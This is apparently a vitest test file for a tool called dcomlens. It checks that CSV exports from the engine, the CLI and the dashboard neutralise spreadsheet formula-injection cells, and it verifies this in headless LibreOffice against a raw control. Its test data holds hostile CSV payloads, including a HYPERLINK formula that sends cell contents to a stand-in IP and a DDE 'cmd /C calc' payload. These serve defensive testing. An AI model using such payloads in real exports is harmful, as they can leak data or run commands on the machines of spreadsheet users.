/**
 * CSV formula injection: every CSV dcomlens writes (the engine's formatCsv, the CLI's --out, the
 * dashboard's export through the worker server) neutralises cells starting with = + - @ tab CR by
 * default and keeps them raw with --raw; then LibreOffice Calc (headless) opens both files and
 * re-saves them: the neutralised `=1+1` comes back as text, the raw one as 2 (the control that
 * proves the check can fail).
 */
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli/main';
import { formatCsv, formatCsvRows } from '../../src/engine/output/format-results';
import { makeTable } from '../../src/engine/table/table';
import { columnFromValues } from '../../src/engine/table/column';
import { ingestFile } from '../../src/engine/ingest/ingest';
import { bytesChunks } from '../../src/engine/ingest/chunk-sources';
import { EngineServer } from '../../src/engine/worker/server';
import { decodeResponse } from '../../src/engine/worker/wire';
import type { EngineResponse } from '../../src/engine/worker/protocol';
import { hostileFiles } from './hostile-data';

/** Cells a spreadsheet would run; each must leave dcomlens with a leading apostrophe. */
const DANGEROUS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://203.0.113.1/?x="&A1,"x")',
  "=cmd|' /C calc'!A0",
];
const SAFE = ['1+1', 'mmc.exe -Embedding', "'already quoted", ' =1+1 (leading space)'];

const dir = mkdtempSync(join(tmpdir(), 'dcomlens-formula-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function capture() {
  let out = '';
  let err = '';
  return {
    io: { out: (s: string) => void (out += s), err: (s: string) => void (err += s) },
    out: () => out,
    err: () => err,
  };
}

/** A one-column CSV table file of the given cells, as the CLI's `run --table` reads it. */
function cellsFile(name: string, cells: readonly string[]): string {
  const q = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const p = join(dir, name);
  writeFileSync(p, `Value,Id\r\n${cells.map((c, i) => `${q(c)},${i}`).join('\r\n')}\r\n`);
  return p;
}

async function cliRun(table: string, extra: string[]): Promise<string[][]> {
  const query = join(dir, 'q.kql');
  writeFileSync(query, 'T | project Value, Id | order by Id asc');
  const out = join(dir, `out-${extra.join('') || 'default'}.csv`);
  const c = capture();
  const code = await main(['run', '--query', query, '--table', `T=${table}`, '--out', out, ...extra], c.io);
  expect(code, c.err()).toBe(0);
  return parseCsv(readFileSync(out, 'utf8')) as string[][];
}

describe('formula neutralisation in every CSV dcomlens writes', () => {
  it("the engine's formatCsv: neutralised by default, raw on request", () => {
    const values = [...DANGEROUS, ...SAFE];
    const table = makeTable('t', [{ name: 'Value', type: 'string' }], [columnFromValues('string', values)]);
    const neutral = (parseCsv(formatCsv(table, { sortRows: false })) as string[][]).slice(1).map((r) => r[0]);
    expect(neutral).toEqual([...DANGEROUS.map((v) => `'${v}`), ...SAFE]);
    const raw = (parseCsv(formatCsv(table, { sortRows: false, raw: true })) as string[][]).slice(1).map((r) => r[0]);
    expect(raw).toEqual(values);
  });

  it('numbers stay numbers (-1 is minus one, not a formula); the same text is neutralised', () => {
    const table = makeTable(
      't',
      [
        { name: 'Gap', type: 'long' },
        { name: 'Text', type: 'string' },
      ],
      [columnFromValues('long', [-1, 2]), columnFromValues('string', ['-1', '2'])],
    );
    expect(formatCsv(table, { sortRows: false })).toBe("Gap,Text\r\n-1,'-1\r\n2,2\r\n");
    expect(formatCsvRows(['Gap', 'Text'], [[-1, '-1']])).toBe("Gap,Text\r\n-1,'-1\r\n");
  });

  it("the CLI's --out: neutralised by default, raw with --raw", async () => {
    const file = cellsFile('cells.csv', [...DANGEROUS, ...SAFE]);
    const neutral = await cliRun(file, []);
    // The CLI sorts rows by their cells: compare by the Id column.
    const byId = (rows: string[][]) =>
      rows
        .slice(1)
        .sort((a, b) => Number(a[1]) - Number(b[1]))
        .map((r) => r[0]);
    expect(byId(neutral)).toEqual([...DANGEROUS.map((v) => `'${v}`), ...SAFE]);
    const raw = await cliRun(file, ['--raw']);
    expect(byId(raw)).toEqual([...DANGEROUS, ...SAFE]);
  });

  it('the CLI detect --out and the dashboard export (worker server) on hostile exports', async () => {
    const files = hostileFiles();
    const paths = Object.entries(files).map(([n, b]) => {
      const p = join(dir, n);
      writeFileSync(p, b);
      return p;
    });
    const out = join(dir, 'alerts.csv');
    const c = capture();
    expect(await main(['detect', ...paths, '--out', out], c.io), c.err()).toBe(0);
    const cliRows = parseCsv(readFileSync(out, 'utf8')) as string[][];
    expect(cliRows.length).toBeGreaterThan(1);
    for (const r of cliRows) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The dashboard's export path.
    const posted: EngineResponse[] = [];
    const server = new EngineServer((m) => posted.push(decodeResponse(m)));
    let id = 1;
    for (const [name, bytes] of Object.entries(files))
      await server.handle({ kind: 'ingest', id: id++, name, file: new Blob([bytes]) });
    await server.handle({ kind: 'detect', id: id++, allowList: null });
    for (const raw of [false, true]) {
      await server.handle({ kind: 'export-csv', id: id, options: { raw } });
      const answer = posted.find((m) => m.id === id && m.kind === 'csv');
      id++;
      expect(answer?.kind).toBe('csv');
      const rows = parseCsv(answer && answer.kind === 'csv' ? answer.text : '') as string[][];
      const starts = rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
      if (raw) expect(starts.length).toBeGreaterThanOrEqual(6);
      else expect(starts).toEqual([]);
    }
    // And the CSV reader reads its own neutralised export back without losing a row.
    const back = await ingestFile('alerts.csv', bytesChunks(readFileSync(out), 1 << 12));
    expect(back.report.rowsLoaded).toBe(cliRows.length - 1);
  });
});

// --- A real spreadsheet engine -------------------------------------------------------------------

const SOFFICE = ['/usr/bin/soffice', '/usr/bin/libreoffice'].find((p) => existsSync(p)) ?? null;
const skipCalc = SOFFICE === null && !process.env.CI;
if (skipCalc)
  console.warn(
    'LibreOffice check skipped: soffice not found (apt-get install -y libreoffice-calc-nogui). With CI set it runs and fails.',
  );

/**
 * Opens `csv` in LibreOffice Calc (comma-separated, UTF-8, formulas evaluated as a user opening
 * the file would get them) and saves it again as CSV of the *shown* values.
 */
function calcRoundTrip(csv: string, name: string): string[][] {
  if (!SOFFICE) throw new Error('LibreOffice (soffice) is required in CI: apt-get install -y libreoffice-calc-nogui');
  const work = join(dir, `calc-${name}`);
  const outDir = join(work, 'out');
  mkdirSync(outDir, { recursive: true });
  const src = join(work, `${name}.csv`);
  writeFileSync(src, csv);
  // Import filter: sep 44 (,), quote 34 ("), charset 76 (UTF-8), from line 1, no column types,
  // language default, quoted fields as text = false, detect special numbers = true (as a user's
  // default import), ... Export: the same options, cell contents "as shown".
  const filter = 'Text - txt - csv (StarCalc)';
  const opts = '44,34,76,1,,0,false,true,false,false,false,-1';
  const profile = `file://${join(work, 'profile')}`;
  const r = spawnSync(
    SOFFICE,
    [
      `-env:UserInstallation=${profile}`,
      '--headless',
      '--norestore',
      `--infilter=${filter}:${opts}`,
      '--convert-to',
      `csv:${filter}:${opts}`,
      '--outdir',
      outDir,
      src,
    ],
    { encoding: 'utf8', timeout: 120_000 },
  );
  // With sheet -1 (all sheets) Calc names the file <name>-<sheet>.csv.
  const made = existsSync(outDir) ? readdirSync(outDir).filter((f) => f.endsWith('.csv')) : [];
  const out = join(outDir, made[0] ?? `${name}.csv`);
  if (r.status !== 0 || !existsSync(out)) throw new Error(`soffice failed (${r.status}): ${r.stderr}${r.stdout}`);
  return parseCsv(readFileSync(out, 'utf8'), { relaxColumnCount: true }) as string[][];
}

describe.skipIf(skipCalc)('LibreOffice Calc evaluates no formula in a neutralised export', () => {
  it('=1+1 and friends come back as literal text; the raw control evaluates to 2', async () => {
    if (SOFFICE)
      console.log(`spreadsheet engine: ${execFileSync(SOFFICE, ['--version'], { encoding: 'utf8' }).trim()}`);
    const cells = ['=1+1', '+1+1', '-1+1', '@SUM(1,1)', '=SUM(1;1)', '=2*3'];
    const file = cellsFile('calc-cells.csv', cells);
    await cliRun(file, []);
    const neutralCsv = readFileSync(join(dir, 'out-default.csv'), 'utf8');
    await cliRun(file, ['--raw']);
    const rawCsv = readFileSync(join(dir, 'out---raw.csv'), 'utf8');

    // Rows come back in the CLI's sorted order: key them by the Id column.
    const byId = (rows: string[][]) =>
      rows
        .slice(1)
        .sort((a, b) => Number(a[1]) - Number(b[1]))
        .map((r) => r[0]);
    const neutral = byId(calcRoundTrip(neutralCsv, 'neutral'));
    const raw = byId(calcRoundTrip(rawCsv, 'raw'));
    console.log('LibreOffice, neutralised export →', JSON.stringify(neutral), '| raw export →', JSON.stringify(raw));
    // Neutralised: each cell shows its text (Calc keeps the apostrophe-led text as the text itself,
    // with or without the apostrophe); never a computed number.
    neutral.forEach((v, i) => {
      expect(
        v === cells[i] || v === `'${cells[i]}`,
        `cell ${i}: ${JSON.stringify(v)} should be the literal ${cells[i]}`,
      ).toBe(true);
    });
    expect(neutral).not.toContain('2');
    expect(neutral).not.toContain('6');
    // The control: the same cells raw are formulas to Calc, so the check can fail.
    expect(raw[0]).toBe('2');
    expect(raw[5]).toBe('6');
  }, 180_000);
});
